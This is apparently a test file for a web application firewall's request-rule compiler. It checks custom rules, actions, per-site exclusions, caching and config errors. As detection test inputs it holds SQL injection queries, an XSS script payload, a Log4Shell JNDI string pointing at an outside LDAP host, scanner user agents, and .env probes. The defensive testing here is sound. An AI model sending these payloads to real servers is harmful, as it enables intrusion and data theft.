/**
 * compileRequestRules beyond the built-in corpus: custom rules on each field, actions and
 * their precedence, log-only mode, per-site exclusions (by id, category, wildcard host), the
 * built-in set switched off, and the errors a bad config or data file gives.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CustomRule, RequestRulesConfig } from '../../config/types.ts';
import type { GateRequest } from '../../proxy/index.ts';
import { PortcullisError } from '../../kernel/errors.ts';
import { normalizePath } from '../../proxy/normalize-path.ts';
import { compileRequestRules } from './compile.ts';
import { loadBuiltinRules } from './rule-files.ts';
import { gateRequest } from '../../../test/support/gate-request.ts';

interface RequestOptions {
  headers?: Record<string, string | string[]>;
  method?: string;
  host?: string;
  clientIp?: string;
}

function request(target: string, o: RequestOptions = {}): GateRequest {
  const q = target.indexOf('?');
  const rawPath = q === -1 ? target : target.slice(0, q);
  const path = normalizePath(rawPath);
  assert.ok(path !== null);
  const host = o.host ?? 'www.example.com';
  return gateRequest(
    { clientIp: o.clientIp ?? '198.51.100.7', method: o.method ?? 'GET', path, rawPath, query: q === -1 ? '' : target.slice(q + 1), host, siteName: host },
    { host, 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0', ...o.headers },
  );
}

const SOURCE = { file: '/etc/portcullis/Caddyfile', line: 7 };

function rule(id: string, fields: Partial<CustomRule>): CustomRule {
  return { id, paths: [], queryRegexps: [], headers: {}, userAgent: null, methods: [], ips: [], action: 'block', source: SOURCE, ...fields };
}

function rules(fields: Partial<RequestRulesConfig>): RequestRulesConfig {
  return { builtin: true, logOnly: false, exclusions: [], custom: [], ...fields };
}

function idOf(check: (r: GateRequest) => { id: string } | null, target: string, o?: RequestOptions): string | null {
  return check(request(target, o))?.id ?? null;
}

describe('custom rules: each field, all conditions together', () => {
  it('path: Caddy path patterns on the normalised path, case-insensitively', () => {
    const check = compileRequestRules(rules({ builtin: false, custom: [rule('probe', { paths: ['/manager/html*', '/solr/*', '*.asp', '/exact'] })] }));
    assert.equal(idOf(check, '/manager/html'), 'probe');
    assert.equal(idOf(check, '/Manager/HTML/list'), 'probe');
    assert.equal(idOf(check, '/public/..//manager/html'), 'probe'); // normalised first
    assert.equal(idOf(check, '/%73olr/admin'), 'probe'); // decoded first
    assert.equal(idOf(check, '/default.ASP'), 'probe');
    assert.equal(idOf(check, '/exact'), 'probe');
    assert.equal(idOf(check, '/exact/more'), null);
    assert.equal(idOf(check, '/solr'), null);
    assert.equal(idOf(check, '/'), null);
  });

  it('query_regexp: the query as sent or decoded; RE2 syntax, (?i) works', () => {
    const check = compileRequestRules(rules({ builtin: false, custom: [rule('q', { queryRegexps: ['(?i)union\\s+select', '^debug=1$'] })] }));
    assert.equal(idOf(check, '/?x=1+UNION+SELECT+2'), 'q');
    assert.equal(idOf(check, '/?x=1%20UnIoN%09select'), 'q');
    assert.equal(idOf(check, '/?debug=1'), 'q');
    assert.equal(idOf(check, '/?debug=10'), null);
    assert.equal(idOf(check, '/?x=reunion+selection'), 'q'); // the operator's regexp, as written
    assert.equal(idOf(check, '/?x=union'), null);
    assert.equal(idOf(check, '/'), null);
  });

  it('header: a regexp per header; an absent header reads as empty', () => {
    const check = compileRequestRules(
      rules({
        builtin: false,
        custom: [rule('scanner-header', { headers: { 'X-Scanner': '.+' } }), rule('no-referer-post', { methods: ['post'], headers: { Referer: '^$' } })],
      }),
    );
    assert.equal(idOf(check, '/', { headers: { 'x-scanner': 'yes' } }), 'scanner-header');
    assert.equal(idOf(check, '/'), null);
    assert.equal(idOf(check, '/form', { method: 'POST' }), 'no-referer-post');
    assert.equal(idOf(check, '/form', { method: 'POST', headers: { referer: 'https://www.example.com/' } }), null);
    // Several values of one header (Node keeps some as lists): any may match.
    const cookies = compileRequestRules(rules({ builtin: false, custom: [rule('c', { headers: { 'Set-Cookie': '^evil=' } })] }));
    assert.equal(idOf(cookies, '/', { headers: { 'set-cookie': ['a=1', 'evil=2'] } }), 'c');
  });

  it('user_agent: a regexp over User-Agent; a missing one reads as empty', () => {
    const check = compileRequestRules(rules({ builtin: false, custom: [rule('bots', { userAgent: '(?i)masscan|zgrab' }), rule('no-ua', { userAgent: '^$' })] }));
    assert.equal(idOf(check, '/', { headers: { 'user-agent': 'MASSCAN/1.3' } }), 'bots');
    assert.equal(idOf(check, '/', { headers: { 'user-agent': 'curl/8' } }), null);
    const req = request('/');
    delete (req.req.headers as Record<string, unknown>)['user-agent'];
    assert.equal(check(req)?.id, 'no-ua');
  });

  it('method and ip; every condition of a rule must hold', () => {
    const check = compileRequestRules(
      rules({ builtin: false, custom: [rule('writes-from-net', { methods: ['PUT', 'DELETE'], ips: ['203.0.113.0/24', '2001:db8::/32'], paths: ['/api/*'] })] }),
    );
    assert.equal(idOf(check, '/api/x', { method: 'DELETE', clientIp: '203.0.113.9' }), 'writes-from-net');
    assert.equal(idOf(check, '/api/x', { method: 'PUT', clientIp: '2001:db8::1' }), 'writes-from-net');
    assert.equal(idOf(check, '/api/x', { method: 'GET', clientIp: '203.0.113.9' }), null);
    assert.equal(idOf(check, '/api/x', { method: 'DELETE', clientIp: '198.51.100.1' }), null);
    assert.equal(idOf(check, '/other', { method: 'DELETE', clientIp: '203.0.113.9' }), null);
  });

  it('actions: block, log, challenge; the strongest match wins, a built-in block beats a custom log', () => {
    const custom = [rule('watch-admin', { paths: ['/admin*'], action: 'log' }), rule('login', { paths: ['/login'], action: 'challenge' }), rule('both', { paths: ['/login'], methods: ['POST'], action: 'log' })];
    const check = compileRequestRules(rules({ custom }));
    assert.deepEqual(check(request('/admin/users')), { id: 'watch-admin', category: 'custom', action: 'log' });
    assert.deepEqual(check(request('/login', { method: 'POST' })), { id: 'login', category: 'custom', action: 'challenge' });
    // /admin/.env: the custom rule only logs, the built-in dotfile rule blocks.
    assert.deepEqual(check(request('/admin/.env')), { id: 'dotfile-probe', category: 'exposed-files', action: 'block' });
    // The same hit object every time: the per-request path allocates no results.
    assert.equal(check(request('/admin')), check(request('/admin/x')));
  });
});

describe('log_only and builtin off', () => {
  it('log_only reports every match with action log', () => {
    const check = compileRequestRules(rules({ logOnly: true, custom: [rule('c', { paths: ['/c'], action: 'challenge' })] }));
    assert.deepEqual(check(request('/wp-login.php')), { id: 'wordpress-probe', category: 'wordpress', action: 'log' });
    assert.deepEqual(check(request('/c')), { id: 'c', category: 'custom', action: 'log' });
    assert.equal(check(request('/')), null);
  });

  it('builtin off: only custom rules run, and exclusions may still name built-in rules', () => {
    const check = compileRequestRules(
      rules({ builtin: false, exclusions: [{ host: '*', rules: ['wordpress'], source: SOURCE }], custom: [rule('c', { paths: ['/c'] })] }),
    );
    assert.equal(idOf(check, '/wp-login.php'), null);
    assert.equal(idOf(check, '/.env'), null);
    assert.equal(idOf(check, '/c'), 'c');
  });
});

describe('exclusions per site', () => {
  const exclusions: RequestRulesConfig['exclusions'] = [
    { host: 'blog.example.com', rules: ['wordpress'], source: SOURCE },
    { host: '*.shop.example.com', rules: ['sqli', 'backup-file-probe'], source: SOURCE },
    { host: 'cgi.example.com', rules: ['shell-probe', 'custom'], source: SOURCE },
    { host: 'media.example.com', rules: ['c1'], source: SOURCE },
    { host: '*', rules: ['scanners'], source: SOURCE },
  ];
  const check = compileRequestRules(rules({ exclusions, custom: [rule('c1', { paths: ['/c1*'] }), rule('c2', { paths: ['/c2'] })] }));

  it('a WordPress site excludes the wordpress category and keeps every other rule', () => {
    assert.equal(idOf(check, '/wp-login.php', { host: 'blog.example.com' }), null);
    assert.equal(idOf(check, '/wp-admin/', { host: 'blog.example.com' }), null);
    assert.equal(idOf(check, '/wp-login.php', { host: 'www.example.com' }), 'wordpress-probe');
    assert.equal(idOf(check, '/wp-config.php.bak', { host: 'blog.example.com' }), 'config-file-probe');
    assert.equal(idOf(check, '/.env', { host: 'blog.example.com' }), 'dotfile-probe');
  });

  it('by rule id, on one-label wildcard hosts only', () => {
    assert.equal(idOf(check, '/?id=1%20union%20select%201,2', { host: 'eu.shop.example.com' }), null);
    assert.equal(idOf(check, '/old.bak', { host: 'eu.shop.example.com' }), null);
    assert.equal(idOf(check, '/?id=1%20union%20select%201,2', { host: 'a.eu.shop.example.com' }), 'sqli');
    assert.equal(idOf(check, '/?id=1%20union%20select%201,2', { host: 'shop.example.com' }), 'sqli');
    // Excluding sqli leaves the other rules of the same request in force.
    assert.equal(idOf(check, '/?id=1%27%20union%20select%201,2%3Cscript%3E', { host: 'eu.shop.example.com' }), 'xss');
  });

  it('custom rules by id or all of them by the category custom; * applies to every host', () => {
    assert.equal(idOf(check, '/c2', { host: 'media.example.com' }), 'c2');
    assert.equal(idOf(check, '/c1', { host: 'media.example.com' }), null);
    assert.equal(idOf(check, '/c2', { host: 'cgi.example.com' }), null);
    assert.equal(idOf(check, '/cgi-bin/x.cgi', { host: 'cgi.example.com' }), null);
    assert.equal(idOf(check, '/cgi-bin/x.cgi'), 'shell-probe');
    assert.equal(idOf(check, '/', { headers: { 'user-agent': 'sqlmap/1.7' } }), null);
  });
});

describe('user agents found clean are remembered, and only those', () => {
  it('a scanner user agent excluded on one site is still refused on the others, before and after', () => {
    const check = compileRequestRules(rules({ exclusions: [{ host: 'scan-me.example.com', rules: ['scanners'], source: SOURCE }] }));
    const sqlmap = { 'user-agent': 'sqlmap/1.7' };
    for (let i = 0; i < 3; i++) {
      assert.equal(idOf(check, '/', { host: 'scan-me.example.com', headers: sqlmap }), null, 'excluded there');
      assert.equal(idOf(check, '/', { headers: sqlmap }), 'scanner-user-agent', `refused elsewhere (round ${i})`);
    }
    // A browser's user agent, clean and remembered, changes nothing for the rules on its path and query.
    for (let i = 0; i < 3; i++) assert.equal(idOf(check, '/'), null);
    assert.equal(idOf(check, '/.env'), 'dotfile-probe');
    assert.equal(idOf(check, '/?q=%3Cscript%3Ealert(1)%3C/script%3E'), 'xss');
  });
});

describe('request targets found clean are remembered, and only those', () => {
  it('a target excluded on one site is still refused on the others, before and after', () => {
    const check = compileRequestRules(rules({ exclusions: [{ host: 'dev.example.com', rules: ['dotfile-probe', 'sqli'], source: SOURCE }] }));
    for (let i = 0; i < 3; i++) {
      assert.equal(idOf(check, '/.env', { host: 'dev.example.com' }), null, 'excluded there');
      assert.equal(idOf(check, '/.env'), 'dotfile-probe', `refused elsewhere (round ${i})`);
      assert.equal(idOf(check, '/?id=1%20union%20select%201,2', { host: 'dev.example.com' }), null, 'excluded there');
      assert.equal(idOf(check, '/?id=1%20union%20select%201,2'), 'sqli', `refused elsewhere (round ${i})`);
    }
  });

  it('a clean target remembered still gets the header and user-agent rules, and another query is checked', () => {
    const check = compileRequestRules(rules({ custom: [rule('admin-post', { paths: ['/shop/items'], methods: ['DELETE'] })] }));
    for (let i = 0; i < 3; i++) assert.equal(idOf(check, '/shop/items?id=5'), null);
    assert.equal(idOf(check, '/shop/items?id=5', { headers: { 'x-api-version': '${jndi:ldap://203.0.113.9/a}' } }), 'log4shell');
    assert.equal(idOf(check, '/shop/items?id=5', { headers: { 'user-agent': 'sqlmap/1.7' } }), 'scanner-user-agent');
    assert.equal(idOf(check, '/shop/items?id=5', { method: 'DELETE' }), 'admin-post', 'custom rules run before the remembered part');
    assert.equal(idOf(check, '/shop/items?id=5%27%20union%20select%20password%20from%20users--'), 'sqli');
    assert.equal(idOf(check, '/shop/items/../../.env?id=5'), 'dotfile-probe');
  });
});

describe('errors', () => {
  it('an exclusion naming an unknown rule fails at its line', () => {
    assert.throws(
      () => compileRequestRules(rules({ exclusions: [{ host: 'x.example.com', rules: ['wordpres'], source: SOURCE }] })),
      (e: unknown) => e instanceof PortcullisError && e.code === 'ERR_CONFIG_INVALID' && e.describe() === '/etc/portcullis/Caddyfile:7: guard: exclude: unknown rule or category "wordpres"',
    );
  });

  it('a custom regexp that does not compile fails at the rule line', () => {
    assert.throws(
      () => compileRequestRules(rules({ custom: [rule('bad', { userAgent: '(unclosed' })] })),
      (e: unknown) => e instanceof PortcullisError && e.describe().startsWith('/etc/portcullis/Caddyfile:7: guard: rule bad: invalid regexp'),
    );
  });

  it('built-in rule files: unreadable, malformed or unsafe ones are refused with every problem named', () => {
    const dir = mkdtempSync(join(tmpdir(), 'portcullis-rules-'));
    try {
      assert.throws(() => compileRequestRules(rules({}), { dataDir: join(dir, 'missing') }), /cannot read the built-in rules/);
      assert.throws(() => compileRequestRules(rules({}), { dataDir: dir }), /no built-in rules/);
      writeFileSync(join(dir, 'a.json'), JSON.stringify({ category: 'a', description: 'd', rules: [{ id: 'a-probe', description: 'd', paths: ['/Upper', '../x'], regexps: [{ in: ['query'], pattern: 'Union' }, { in: ['headers'], pattern: 'x' }, { in: ['body'], pattern: 'x' }], extra: 1 }] }));
      writeFileSync(join(dir, 'b.json'), JSON.stringify({ category: 'a', description: 'd', define: { w: '\\s' }, rules: [{ id: 'a-probe', description: 'd', regexps: [{ in: ['path'], pattern: '{w}{nope}(' }] }] }));
      writeFileSync(join(dir, 'c.json'), '{ not json');
      let message = '';
      try {
        compileRequestRules(rules({}), { dataDir: dir });
      } catch (e) {
        message = (e as Error).message;
      }
      for (const expected of [
        'a.json: rule a-probe: unknown field "extra"',
        'a.json: rule a-probe: paths: "/Upper": expected lower-case path segments',
        'a.json: rule a-probe: paths: "../x": dot segments never reach a normalised path',
        'a.json: rule a-probe: regexps[0].pattern: has an upper-case letter, but the inputs are lower-cased',
        'a.json: rule a-probe: regexps[1].needles: needles are required with the headers target, and only there',
        'a.json: rule a-probe: regexps[2].in: expected distinct targets among path, query, user_agent, headers',
        'b.json: category: a is the category of another file too',
        'b.json: rule a-probe: regexps[0].pattern: {nope} is not defined',
        'b.json: rule a-probe is also defined in',
        'c.json: cannot read:',
      ]) {
        assert.ok(message.includes(expected), `missing ${JSON.stringify(expected)} in:\n${message}`);
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('the shipped rule files load, with unique ids and a description each', () => {
    const loaded = loadBuiltinRules();
    assert.ok(loaded.length >= 20, `${loaded.length} rules`);
    assert.equal(new Set(loaded.map((r) => r.id)).size, loaded.length);
    for (const r of loaded) assert.ok(r.description.length > 20, r.id);
  });
});
